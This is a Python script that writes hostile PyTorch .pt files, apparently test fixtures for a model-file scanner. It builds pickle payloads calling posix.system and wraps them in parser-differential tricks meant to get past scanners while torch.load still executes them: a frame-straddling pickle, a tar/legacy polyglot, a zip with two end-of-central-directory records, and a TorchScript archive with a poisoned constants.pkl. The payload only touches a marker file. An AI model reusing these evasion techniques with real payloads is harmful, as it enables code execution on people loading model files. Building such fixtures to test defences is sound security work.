"""Writes the hostile files of issue 19 into differential/: files on which a reader that
differs from torch.load in one detail would read a clean pickle while torch reads (or could
read) another. Python stdlib only; every payload would `touch /tmp/safeshift_marker_diff`.

    python3 make_differential.py
"""
import os
import struct
import zlib

HERE = os.path.join(os.path.dirname(os.path.abspath(__file__)), "differential")
PAYLOAD = b"cposix\nsystem\n(S'touch /tmp/safeshift_marker_diff'\ntR"
LEGACY_MAGIC = b"\x80\x02\x8a\x0a" + (0x1950A86A20F9469CFC6C).to_bytes(10, "little") + b"."
LEGACY_PROTOCOL = b"\x80\x02M\xe9\x03."
# torch's sys_info pickle: {'protocol_version': 1001, 'little_endian': True, 'type_sizes': {...}}
LEGACY_SYS_INFO = (
    b"\x80\x02}(X\x10\x00\x00\x00protocol_versionM\xe9\x03X\r\x00\x00\x00little_endian\x88"
    b"X\n\x00\x00\x00type_sizes}(X\x05\x00\x00\x00shortK\x02X\x03\x00\x00\x00intK\x04"
    b"X\x04\x00\x00\x00longK\x04uu."
)
LEGACY_NO_KEYS = b"\x80\x02]."


def local_header(name, data, flags=0):
    return struct.pack("<IHHHHHIIIHH", 0x04034B50, 20, flags, 0, 0, 0,
                       zlib.crc32(data), len(data), len(data), len(name), 0) + name


def central_header(name, data, offset):
    return struct.pack("<IHHHHHHIIIHHHHHII", 0x02014B50, 20, 20, 0, 0, 0, 0,
                       zlib.crc32(data), len(data), len(data), len(name), 0, 0, 0, 0, 0,
                       offset) + name


def end_record(count, cd_size, cd_offset, comment_len):
    return struct.pack("<IHHHHIIH", 0x06054B50, 0, 0, count, count, cd_size, cd_offset,
                       comment_len)


def zip_of(members):
    """A stored zip of (name, bytes) members."""
    out, central = b"", b""
    for name, data in members:
        central += central_header(name.encode(), data, len(out))
        out += local_header(name.encode(), data) + data
    return out + central + end_record(len(members), len(central), len(out), 0)


def frame(body):
    return b"\x95" + struct.pack("<Q", len(body)) + body


def straddling_pickle():
    """Protocol 4: a FRAME ending inside a SHORT_BINUNICODE's text. Read straight through,
    it is a dict with one string; CPython's C unpickler, when it buffered the frame with a
    read() (as it does past its prefetch size), drops the frame's tail and reads the opcode
    afresh from after the frame, where the payload sits."""
    head = b"\x80\x04" + frame(b"}\x8c\x30" + b"k" * 8)
    tail = b"a" * 40 + b"\x8c\x01vs."
    # What a C unpickler that re-reads 0x30 bytes after the frame would see next:
    # the text "aaaa…" and then the same opcodes; the point is the two readings differ.
    return head + tail


def write(name, data):
    with open(os.path.join(HERE, name), "wb") as f:
        f.write(data)


def main():
    os.makedirs(HERE, exist_ok=True)
    clean = b"\x80\x02}X\x01\x00\x00\x00aK\x01s."
    gadget = b"\x80\x02" + PAYLOAD + b"."

    # 1. A FRAME straddle in a zip member and in a legacy stream.
    write("frame_straddle_zip.pt", zip_of([("archive/data.pkl", straddling_pickle()),
                                           ("archive/version", b"3\n")]))
    write("frame_straddle_legacy.pt", LEGACY_MAGIC + LEGACY_PROTOCOL + LEGACY_SYS_INFO
          + straddling_pickle() + LEGACY_NO_KEYS)

    # 2. A tar/legacy polyglot: a legacy stream whose first 512 bytes are also a header
    # that Python's tarfile accepts (torch.load tries the tar format before the legacy
    # stream). The header's fields sit inside a string of the system-info pickle, which
    # torch reads and ignores.
    prefix = (LEGACY_MAGIC + LEGACY_PROTOCOL + b"\x80\x02}(X\x0d\x00\x00\x00little_endian\x88"
              b"X\x04\x00\x00\x00tarsX")
    filler_at = len(prefix) + 4
    block = bytearray(prefix + struct.pack("<I", 512 - filler_at) + b"\x00" * (512 - filler_at))
    for at, field in [(100, b"0000644\x00"), (108, b"0000000\x00"), (116, b"0000000\x00"),
                      (124, b"00000000000\x00"), (136, b"00000000000\x00"), (156, b"0"),
                      (257, b"ustar\x0000")]:
        block[at:at + len(field)] = field
    block[148:156] = b" " * 8
    block[148:156] = b"%06o\x00 " % sum(block)
    legacy = bytes(block) + b"u." + clean + LEGACY_NO_KEYS
    write("tar_polyglot.pt", legacy)

    # 3. Two end-of-central-directory records: an earlier one, self-consistent (its comment
    # runs to the end of the file), lists a clean data.pkl; the last one, which torch's
    # reader (miniz) uses whatever its comment length says, lists the gadget.
    out = b""
    clean_at = len(out)
    out += local_header(b"archive/data.pkl", clean) + clean
    gadget_at = len(out)
    out += local_header(b"archive/data.pkl", gadget) + gadget
    cd_a = central_header(b"archive/data.pkl", clean, clean_at)
    cd_b = central_header(b"archive/data.pkl", gadget, gadget_at)
    cd_a_at = len(out)
    tail = cd_b + end_record(1, len(cd_b), cd_a_at + len(cd_a) + 22, 1)
    out += cd_a + end_record(1, len(cd_a), cd_a_at, len(tail)) + tail
    write("several_eocd.pt", out)

    # 4. A TorchScript archive whose constants.pkl calls posix.system.
    write("torchscript_gadget.pt", zip_of([
        ("model/data.pkl", clean),
        ("model/constants.pkl", gadget),
        ("model/code/__torch__.py", b"class Model(Module):\n  pass\n"),
        ("model/version", b"3\n"),
    ]))


if __name__ == "__main__":
    main()
